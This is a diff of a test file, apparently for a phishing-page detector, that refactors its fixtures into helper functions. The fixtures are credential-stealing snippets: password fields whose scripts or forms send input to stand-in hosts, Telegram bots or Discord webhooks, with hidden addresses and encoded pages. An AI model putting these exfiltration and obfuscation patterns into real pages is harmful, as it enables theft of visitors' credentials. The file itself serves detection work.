@@ -12,10 +12,14 @@ function assessed(files: SampleFiles, entry = 'index.html') {
 
 const body = (html: string) => site('A page', html);
 const script = (code: string) => body(`<script>${code}</script>`);
+const encoded = (written: string) => script(`document.write(${written})`);
 const PASSWORD = '<input type="password">';
 const PHRASE = '<textarea placeholder="Enter your recovery phrase"></textarea>';
 const CARD = field('Card number', 'name="n"') + field('CVV', 'name="c"');
 const LOG_IN = `<form>${PASSWORD}</form>`;
+/** Pages with a password that a form or a script sends. */
+const form = (action: string) => body(`<form action="${action}">${PASSWORD}</form>`);
+const sends = (code: string) => body(`${PASSWORD}<script>${code}</script>`);
 
 testRows([
   ['a password', body(PASSWORD), 'It asks for a password'],
@@ -26,11 +30,7 @@ testRows([
   ['a code', body('<input autocomplete="one-time-code">'), 'a code that a service sent'],
   ['fields in a script', scripted('A page', 'e("input",{type:"password"})'), 'It asks for a password'],
   ['fields in a string of a script', script(`x.innerHTML='${PASSWORD}'`), 'It asks for a password'],
-  [
-    'a form',
-    body(`<form action="https://a.example/">${PASSWORD}</form>`),
-    'sends secrets to another host: "a.example"',
-  ],
+  ['a form', form('https://a.example/'), 'sends secrets to another host: "a.example"'],
   ['the action of a button', body(`<form>${PASSWORD}<button formaction="//a.example/"></form>`), '"a.example"'],
   [
     'a form by the base of the page',
@@ -52,50 +52,22 @@ testRows([
     body(`${PHRASE}<script type="module">import { collection } from './.data/client.js'</script>`),
     'keeps secrets that visitors type in the data',
   ],
-  ['fetch', body(`${PASSWORD}<script>fetch('https://a.example/',{method:'POST'})</script>`), '"a.example"'],
-  [
-    'fetch by a name',
-    body(`${PASSWORD}<script>const U="https://a.example";fetch(\`\${U}/x\`,{body:1})</script>`),
-    '"a.example"',
-  ],
-  ['XMLHttpRequest', body(`${PASSWORD}<script>r.open('POST','https://a.example/')</script>`), '"a.example"'],
-  ['a beacon', body(`${PASSWORD}<script>navigator.sendBeacon("https://a.example/",d)</script>`), '"a.example"'],
-  ['a socket', body(`${PASSWORD}<script>new WebSocket("wss://a.example/")</script>`), '"a.example"'],
-  ['a picture with what was typed', body(`${PASSWORD}<script>i.src="https://a.example/?d="+v</script>`), '"a.example"'],
-  [
-    'an address in base64',
-    body(`${PASSWORD}<script>fetch(atob("${base64('https://a.example/x')}"),{body:1})</script>`),
-    'hides the address',
-  ],
-  [
-    'an address in parts',
-    body(`${PASSWORD}<script>fetch('htt'+'ps://a.exa'+'mple/',{body:1})</script>`),
-    'hides the address',
-  ],
-  [
-    'an address in a list',
-    body(`${PASSWORD}<script>k=['https:','//a.example/'].join('');r.open('POST',k)</script>`),
-    'hides the address',
-  ],
-  [
-    'an address backwards',
-    body(`${PASSWORD}<script>u="/elpmaxe.a//:sptth";fetch(r(u),{body:1})</script>`),
-    'hides the address',
-  ],
-  [
-    'a bot of Telegram',
-    body(`${PASSWORD}<script>fetch('https://api.telegram.org/bot1:a/sendMessage?text='+t)</script>`),
-    'to a chat',
-  ],
-  [
-    'a webhook of Discord',
-    body(`${PASSWORD}<script>fetch('https://discord.com/api/webhooks/1/a',{body:1})</script>`),
-    'to a chat',
-  ],
-  ['a service for forms', body(`<form action="https://formspree.io/f/a">${PASSWORD}</form>`), 'keeps forms for anyone'],
-  ['a tunnel', body(`<form action="https://a.ngrok-free.app">${PASSWORD}</form>`), 'nobody known'],
-  ['an address of a machine', body(`<form action="http://203.0.113.9/">${PASSWORD}</form>`), 'nobody known'],
-  ['a host that imitates', body(`<form action="https://paypal-login.example/">${PASSWORD}</form>`), 'imitates a brand'],
+  ['fetch', sends(`fetch('https://a.example/',{method:'POST'})`), '"a.example"'],
+  ['fetch by a name', sends(`const U="https://a.example";fetch(\`\${U}/x\`,{body:1})`), '"a.example"'],
+  ['XMLHttpRequest', sends(`r.open('POST','https://a.example/')`), '"a.example"'],
+  ['a beacon', sends(`navigator.sendBeacon("https://a.example/",d)`), '"a.example"'],
+  ['a socket', sends(`new WebSocket("wss://a.example/")`), '"a.example"'],
+  ['a picture with what was typed', sends(`i.src="https://a.example/?d="+v`), '"a.example"'],
+  ['an address in base64', sends(`fetch(atob("${base64('https://a.example/x')}"),{body:1})`), 'hides the address'],
+  ['an address in parts', sends(`fetch('htt'+'ps://a.exa'+'mple/',{body:1})`), 'hides the address'],
+  ['an address in a list', sends(`k=['https:','//a.example/'].join('');r.open('POST',k)`), 'hides the address'],
+  ['an address backwards', sends(`u="/elpmaxe.a//:sptth";fetch(r(u),{body:1})`), 'hides the address'],
+  ['a bot of Telegram', sends(`fetch('https://api.telegram.org/bot1:a/sendMessage?text='+t)`), 'to a chat'],
+  ['a webhook of Discord', sends(`fetch('https://discord.com/api/webhooks/1/a',{body:1})`), 'to a chat'],
+  ['a service for forms', form('https://formspree.io/f/a'), 'keeps forms for anyone'],
+  ['a tunnel', form('https://a.ngrok-free.app'), 'nobody known'],
+  ['an address of a machine', form('http://203.0.113.9/'), 'nobody known'],
+  ['a host that imitates', form('https://paypal-login.example/'), 'imitates a brand'],
   ['a title', site('PayPal: log in', ''), 'Its title claims to be PayPal'],
   ['a heading', body('<h1>Sign in to your Netflix account</h1>'), 'Its heading claims to be Netflix'],
   ['an alternative text', body('<img alt="Netflix logo">'), 'Its picture claims to be Netflix'],
@@ -116,15 +88,13 @@ testRows([
   ['wide letters', site('Ｎｅｔｆｌｉｘ', ''), 'letters that only look like it'],
   [
     'a page in percent escapes',
-    script(
-      `document.write(unescape('${[...page('x', LOG_IN)].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}'))`,
-    ),
+    encoded(`unescape('${[...page('x', LOG_IN)].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}')`),
     'a page that is encoded',
   ],
-  ['a page in base64', script(`document.write(atob('${base64(page('x', LOG_IN))}'))`), 'a page that is encoded'],
+  ['a page in base64', encoded(`atob('${base64(page('x', LOG_IN))}')`), 'a page that is encoded'],
   [
     'a page in codes',
-    script(`document.write(String.fromCharCode(${[...page('x', LOG_IN)].map((c) => c.charCodeAt(0)).join()}))`),
+    encoded(`String.fromCharCode(${[...page('x', LOG_IN)].map((c) => c.charCodeAt(0)).join()})`),
     'a page that is encoded',
   ],
   [
@@ -132,11 +102,7 @@ testRows([
     body(`<iframe src="data:text/html;base64,${base64(LOG_IN)}"></iframe>`),
     'a page that is encoded',
   ],
-  [
-    'a page with a key',
-    script(`document.write(d('${base64(noise(900))}',atob))`),
-    'a page that only its script can read',
-  ],
+  ['a page with a key', encoded(`d('${base64(noise(900))}',atob)`), 'a page that only its script can read'],
   ['names in hexadecimal', script('var _0x1a2b3c=1;'.repeat(50)), 'names that nobody can read'],
   ['escaped letters', script(`a='${'\\x61'.repeat(60)}'`), 'letters are escaped'],
   [
@@ -170,8 +136,8 @@ testRows([
 });
 
 testRows([
-  ['a log-in of its own', body(`<form action="/login">${PASSWORD}</form>`), 10],
-  ['a log-in at the service itself', body(`<form action="https://a.pages.example/">${PASSWORD}</form>`), 10],
+  ['a log-in of its own', form('/login'), 10],
+  ['a log-in at the service itself', form('https://a.pages.example/'), 10],
   ['a key of an API', body('<input type="password" placeholder="API key">'), 0],
   ['buttons of other accounts', body('<h1>Log in</h1><button><img alt="Google">Sign in with Google</button>'), 0],
   ['pictures of payments', body('<img alt="Visa"><img alt="PayPal"><img alt="Mastercard">'), 0],
@@ -181,7 +147,7 @@ testRows([
   ['a letter to another host', body('<form action="https://a.example/"><input type="email"></form>'), 5],
   ['a location after a click', script('b.onclick=()=>{location.href="https://a.example/"}'), 0],
   ['a refresh after a minute', body('<meta http-equiv="refresh" content="60; url=https://a.example/">'), 0],
-  ['what loads data', body(`${PASSWORD}<script>fetch("https://a.example/data.json")</script>`), 10],
+  ['what loads data', sends(`fetch("https://a.example/data.json")`), 10],
   [
     'WebAssembly in base64',
     script(`a=atob("${base64(Buffer.concat([Buffer.from('\0asm'), noise(900)]))}");document.write(a)`),
@@ -207,7 +173,7 @@ describe('a combination', () => {
 
   test('includes the scripts and frames that a page loads, and those that no page names', () => {
     const send = 'fetch("https://a.example/",{method:"POST"})';
-    const points = assessed(body(`${PASSWORD}<script>${send}</script>`)).points;
+    const points = assessed(sends(send)).points;
     const named = {
       'a/index.html': page('x', `${PASSWORD}<script src="../s.js?v=1"></script>`),
       's.js': send,
